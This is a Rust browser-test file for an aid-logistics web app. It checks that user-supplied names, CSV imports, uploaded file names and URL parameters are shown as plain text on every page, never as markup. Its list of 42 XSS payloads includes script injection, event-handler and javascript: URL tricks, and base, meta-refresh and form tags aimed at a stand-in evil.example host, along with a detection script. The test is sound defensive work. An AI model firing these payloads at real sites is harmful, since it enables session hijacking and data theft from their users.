//! Names and words that look like markup stay words, on every page that shows them: in a real browser
//! nothing of them is an element, and nothing of them runs.

use std::fmt::Write as _;
use std::sync::Arc;

use busel::clerk::Given;
use busel::exchange::reader;
use busel::intake::{Intake, ListKind};
use busel::outside::Outside;
use busel::vault::{Words, WordsKind};
use busel_domain::command::Command;
use busel_domain::ids::{HubId, WordsId};
use busel_domain::role::Actor;
use serde_json::json;

use super::centre::{Centre, NOON};
use super::forms::send;
use super::matrix::small_centre;
use crate::browser::{Browser, Page};
use crate::canary::percent;

/// In each of them, so that it is seen whether a page shows them at all.
const MARK: &str = "xss-mark";

const PAYLOADS: [&str; 42] = [
    "<xss-mark>",
    "\"><xss-mark x=\"",
    "'><xss-mark x='",
    "</title><xss-mark>",
    "</textarea><xss-mark>",
    "</option></select><xss-mark>",
    "</a></td></tr></table><xss-mark>",
    "<!--><xss-mark>-->",
    "--><xss-mark><!--",
    "]]><xss-mark>",
    "<![CDATA[<xss-mark>]]>",
    "<script>window.hit=1</script><xss-mark>",
    "</script><script>window.hit=1</script><xss-mark>",
    "<ScRiPt>window.hit=1</sCrIpT><xss-mark>",
    "<scr<script>ipt>window.hit=1</scr</script>ipt><xss-mark>",
    "<img src=x onerror=window.hit=1><xss-mark>",
    "<svg onload=window.hit=1><xss-mark>",
    "<svg><script>window.hit=1</script><xss-mark>",
    "<math><mtext><xss-mark><img src=x onerror=window.hit=1>",
    "\" onfocus=window.hit=1 autofocus xss-mark=\"",
    "' onmouseover='window.hit=1' xss-mark='",
    "` onfocus=window.hit=1 xss-mark=`",
    "x onfocus=window.hit=1 autofocus xss-mark",
    "<a href=javascript:window.hit=1>xss-mark</a>",
    "javascript:window.hit=1//xss-mark",
    "<iframe srcdoc='<script>parent.hit=1</script>'>xss-mark",
    "<object data=javascript:window.hit=1>xss-mark",
    "<base href=//evil.example/><xss-mark>",
    "<meta http-equiv=refresh content='0;url=//evil.example/xss-mark'>",
    "<form action=//evil.example/xss-mark><button>go</button>",
    "<details open ontoggle=window.hit=1>xss-mark",
    "<video><source onerror=window.hit=1><xss-mark>",
    "<template><xss-mark></template>",
    "<style>*{display:none}</style><xss-mark>",
    "<link rel=stylesheet href=//evil.example/xss-mark>",
    "&lt;xss-mark&gt;&#60;xss-mark&#62;",
    "%3Cxss-mark%3E\\u003cxss-mark\\u003e",
    "\u{ff1c}xss-mark\u{ff1e}<xss-mark",
    "{{7*7}}{% if %}${7*7}#{7*7}<xss-mark>",
    "{ $xss-mark } { NUMBER(7) } <xss-mark>",
    "\u{202e}<xss-mark>\u{feff}\u{200b}",
    "<<xss-mark//onload=window.hit=1>>",
];

/// Elements and attributes that no page of ours has.
const STRANGE: &str = "[...document.querySelectorAll('*')].filter(one => \
    /^(xss-mark.*|iframe|object|embed|base|math|video|audio|template|marquee|frame)$/i\
        .test(one.localName) || \
    (one.localName === 'script' && !(one.src || '').startsWith(location.origin)) || \
    (one.localName === 'style') || \
    (one.localName === 'meta' && one.httpEquiv.toLowerCase() === 'refresh' && /evil/.test(one.content)) || \
    [...one.attributes].some(it => /^on|^xss|^srcdoc$/i.test(it.name) || \
        (/^(href|src|action|formaction|data)$/i.test(it.name) && \
            (/^\\s*javascript:/i.test(it.value) || \
                new URL(it.value, location.href).origin !== location.origin && \
                !/^https:/.test(it.value))))\
    ).map(one => one.outerHTML.slice(0, 200))";

/// Puts every payload where somebody's words can come in: names of groups, hubs and members, places,
/// contacts, lines of lists, and what a list is called.
fn plant(centre: &Centre) {
    let outside = Outside::fixed(NOON, 41);
    let mut given = Vec::new();
    let mut give = |command, words| {
        let (attempt, actor) = (outside.attempt(), Actor::console());
        given.push(Given { attempt, actor, command, happened: None, words });
    };
    for text in PAYLOADS {
        let words = |kind, about: Option<WordsId>| {
            let id = outside.words_id();
            Words { id, kind, about: about.unwrap_or(id), text: text.to_owned() }
        };
        let name = words(WordsKind::Name, None);
        let at = words(WordsKind::Place, Some(name.id));
        let (id, place) = (name.id, Some(at.id));
        give(Command::AddGroup { name: id, place, region: None }, vec![name, at]);
        let name = words(WordsKind::Name, None);
        give(Command::OpenHub { name: name.id, place: None, region: None }, vec![name]);
        let name = words(WordsKind::Name, None);
        give(Command::AddMember { name: name.id }, vec![name]);
    }
    centre.block_on(centre.clerk.give_all(given)).expect("the console may");
    let mut csv = String::from("Group,Item,Quantity,Unit,Note,Donor\n");
    for text in PAYLOADS {
        let quoted = text.replace('"', "\"\"");
        for item in ["Rice", &quoted] {
            writeln!(csv, "\"{quoted}\",\"{item}\",50,kg,\"{quoted}\",\"{quoted}\"")
                .expect("a text can grow");
        }
    }
    for (kind, name) in [(ListKind::Needs, PAYLOADS[1]), (ListKind::Stock(HubId(1)), PAYLOADS[15])]
    {
        let (bytes, day) = (csv.as_bytes(), NOON.day());
        let read = match kind {
            ListKind::Needs => reader().needs(bytes, day, &mut |_| {}),
            ListKind::Stock(_) => reader().stock(bytes, day, &mut |_| {}),
        };
        let present = centre.clerk.present();
        let intake = Intake::new(kind, name, read.expect("a list"), &present);
        let console = Actor::console();
        let added = intake.commit(&centre.clerk, &outside, &console);
        let added = centre.block_on(added).expect("the console may");
        assert!(added.needs + added.lots >= PAYLOADS.len(), "{added:?}");
    }
    let present = Arc::clone(&centre.clerk.present());
    let document = busel::planning::propose(
        &present,
        NOON,
        None,
        busel::planning::Fixed::default(),
        &busel_planner::progress::Unwatched,
    );
    let proposal = busel::planning::proposal(document.expect("it is small"));
    let (attempt, actor, words) = (outside.attempt(), Actor::console(), Vec::new());
    let given = Given { attempt, actor, command: proposal, happened: None, words };
    centre.block_on(centre.clerk.give(given)).expect("it adds up");
}

/// Nothing on this page comes from anybody's words but words.
fn is_plain(page: &Page<'_>, place: &str) {
    assert_eq!(page.eval(STRANGE), json!([]), "{place}");
    assert_eq!(page.eval("typeof window.hit"), "undefined", "{place}");
}

/// How often the page shows one of the payloads, in its text or in a field.
fn shown(page: &Page<'_>) -> u64 {
    let script = format!(
        "document.documentElement.textContent.split('{MARK}').length - 1 + \
         [...document.querySelectorAll('input,textarea')].filter(it => it.value.includes('{MARK}')).length"
    );
    page.eval(&script).as_u64().expect("a number")
}

/// Addresses of pages that have to show them, and of some that must not fall over them.
fn places(centre: &Centre) -> Vec<String> {
    let present = centre.clerk.present();
    let book = &present.book;
    let mut places: Vec<String> = [
        "/",
        "/needs",
        "/needs?part=2",
        "/needs/new",
        "/stock",
        "/stock?part=2",
        "/groups",
        "/groups?part=2",
        "/import",
        "/import?list=stock",
        "/plan",
        "/plan/P-1",
        "/plan/P-1/unmet",
        "/plan/P-1/convoy",
        "/people",
        "/trail",
        "/me",
    ]
    .map(str::to_owned)
    .into();
    places.extend(book.groups().skip(2).map(|group| format!("/groups/{}", group.id)));
    places.extend(book.needs().skip(2).step_by(3).map(|need| format!("/needs/{}", need.id)));
    places.extend(book.lots().skip(2).step_by(3).map(|lot| format!("/stock/{}", lot.id)));
    places.extend(book.members().skip(12).step_by(3).map(|one| format!("/people/{}", one.id)));
    places.extend(book.needs().skip(2).step_by(9).map(|need| format!("/history/{}", need.id)));
    for text in PAYLOADS {
        places.push(format!("/find?q={}", percent(text)));
    }
    for text in PAYLOADS.iter().step_by(4) {
        let text = percent(text);
        places.push(format!("/needs?q={text}&kind={text}&group={text}&show={text}"));
        places.push(format!("/sign-in?back=/{text}&said={text}"));
        places.push(format!("/{text}"));
    }
    places
}

#[test]
fn words_that_look_like_markup_stay_words() {
    let Some(browser) = Browser::start() else { return };
    let centre = small_centre();
    plant(&centre);
    let page = centre.page(&browser);
    let mut seen = 0;
    for place in places(&centre) {
        page.goto(&centre.url(&place));
        is_plain(&page, &place);
        let times = shown(&page);
        let is_about_one =
            ["/groups/", "/people/", "/find?"].iter().any(|it| place.starts_with(it));
        assert!(times > 0 || !is_about_one, "{place} shows nothing of it");
        seen += times;
    }
    assert!(seen > 1_000, "{seen}");
    // A policy that stopped something would say so; nothing came so far as to be stopped.
    let complaints = page.complaints().into_iter().filter(|said| !said.contains("404"));
    assert_eq!(complaints.collect::<Vec<_>>(), Vec::<String>::new());
    // The search finds what is there.
    page.eval("document.body.insertAdjacentHTML('beforeend', '<xss-mark></xss-mark>')");
    assert_ne!(page.eval(STRANGE), json!([]));
}

#[test]
fn a_sent_list_that_looks_like_markup_is_shown_as_words() {
    let Some(browser) = Browser::start() else { return };
    let centre = small_centre();
    let page = centre.page(&browser);
    let folder = tempfile::tempdir().expect("a folder");
    let mut csv = String::from("Group,Item,Quantity,Unit,Note\n");
    for text in PAYLOADS {
        let quoted = text.replace('"', "\"\"");
        for (item, amount) in [("Rice", "50"), (&*quoted, "50"), ("Rice", &*quoted)] {
            writeln!(csv, "\"{quoted}\",\"{item}\",\"{amount}\",kg,\"{quoted}\"")
                .expect("a text can grow");
        }
    }
    let before = centre.clerk.present().book.needs().len();
    for name in ["\"><xss-mark>.csv", "<img src=x onerror=window.hit=1><xss-mark>.csv"] {
        let file = folder.path().join(name);
        std::fs::write(&file, &csv).expect("room enough");
        send(&page, &centre, &file);
        is_plain(&page, name);
        assert!(shown(&page) > 100, "{name} is not shown");
        std::fs::write(&file, "%PDF-1.7").expect("room enough");
        send(&page, &centre, &file);
        is_plain(&page, name);
    }
    assert_eq!(centre.clerk.present().book.needs().len(), before);
    for fields in ["name", "place"] {
        for text in ["\"><xss-mark>", "</textarea><xss-mark>", "' onfocus='window.hit=1"] {
            page.goto(&centre.url("/groups"));
            page.type_into(&format!("#{fields}"), text);
            page.eval("document.querySelectorAll('input').forEach(it => it.required = false)");
            page.follow("form[action='/groups'] button");
            is_plain(&page, text);
        }
    }
}
